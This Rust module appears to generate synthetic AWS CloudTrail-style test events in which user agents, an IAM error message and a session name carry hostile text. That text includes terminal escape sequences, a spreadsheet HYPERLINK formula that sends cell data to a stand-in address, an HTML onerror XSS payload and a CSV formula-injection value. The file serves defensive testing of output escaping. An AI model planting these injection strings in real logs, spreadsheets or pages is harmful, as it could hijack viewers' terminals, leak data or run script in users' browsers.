//! Hostile: text that a caller chose, to act on the terminal, spreadsheet or page that shows it.

use super::super::Expect;
use super::super::identity::{principal, role_identity, unique_id};
use super::super::personas;
use super::super::record::escaped;
use super::super::scribe::{Caller, Outcome};
use super::{Act, Deed, How, Plot, Stage, as_target};

/// Clears the screen, sets the window's title and rings the bell, before it looks like a client.
const ESCAPES: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}]0;nothing to see\u{7}aws-cli/2.31.21 \u{202e}txt.exe";
const FORMULA: &str = "=HYPERLINK(\"http://198.51.100.99/?\"&A1,\"aws-cli/2.31.21\")";
const MARKUP: &str = "<img src=x onerror=alert(document.domain)>";
/// A valid `RoleSessionName` that a spreadsheet computes.
const SESSION: &str = "=2+5+cmd";
const ADDRESS: &str = "198.51.100.99";

/// All of it, by a user who may do nothing and a session of a role.
pub(super) fn names(stage: &mut Stage<'_>) -> Option<Plot> {
    let played = as_target(stage, "contractor.k", |stage, actor| {
        let (place, time) = ((stage.target_index, 0), stage.at(580, 13, 37));
        let (escapes, formula, markup) = (escaped(ESCAPES), escaped(FORMULA), escaped(MARKUP));
        let mut acts: Vec<Act> = (0..)
            .zip([&escapes, &formula, &markup])
            .filter_map(|(nth, agent)| {
                let how = How { outcome: Outcome::Done, address: ADDRESS, agent };
                stage.call(actor, place, time + nth * 20, "sts:GetCallerIdentity", how)
            })
            .collect();
        let message = format!(
            "User: {} is not authorized to perform: iam:GetUser on resource: user {markup} because no identity-based policy allows the iam:GetUser action",
            actor.arn
        );
        let request = format!("{{\"userName\":\"{markup}\"}}");
        let deed = Deed {
            service: "iam",
            name: "GetUser",
            read_only: true,
            request: &request,
            error: ("AccessDenied", &message),
            host: "iam.amazonaws.com",
            ..Deed::default()
        };
        let how = How { outcome: Outcome::Denied, address: ADDRESS, agent: &escapes };
        acts.extend(stage.deed(actor, place, time + 60, how, deed));
        acts.extend(session(stage, time + 80));
        Some((actor.principal.clone(), place, acts))
    });
    let (principal, place, acts) = played?;
    Some(Plot {
        kind: "hostile_user_agent",
        expect: Expect::Nothing,
        about: "terminal escapes, a spreadsheet formula and HTML in user agents, an error message and a session name",
        account: place.0,
        region: place.1,
        principal,
        acts,
        before: Vec::new(),
    })
}

fn session(stage: &mut Stage<'_>, time: i64) -> Option<Act> {
    let account = stage.account(stage.target_index)?;
    let role = personas::named("security-audit")?;
    let (before_key, before_date) =
        role_identity(account, role.name, SESSION, &principal(account, role), &unique_id(account, role));
    let mut identity = format!("{before_key}ASIA5HOSTILESESSION2{before_date}");
    super::push_time(&mut identity, time - 60);
    identity.push_str("\",\"mfaAuthenticated\":\"false\"}}}");
    let agent = escaped(FORMULA);
    let caller = Caller {
        identity: &identity,
        arn: "",
        name: role.name,
        session: SESSION,
        address: ADDRESS,
        agent: &agent,
        vpc_endpoint: "",
        by_service: false,
        from_console: false,
    };
    let deed = Deed {
        service: "sts",
        name: "GetCallerIdentity",
        read_only: true,
        host: "sts.us-east-1.amazonaws.com",
        ..Deed::default()
    };
    stage.raw((stage.target_index, 0), time, &caller, deed)
}
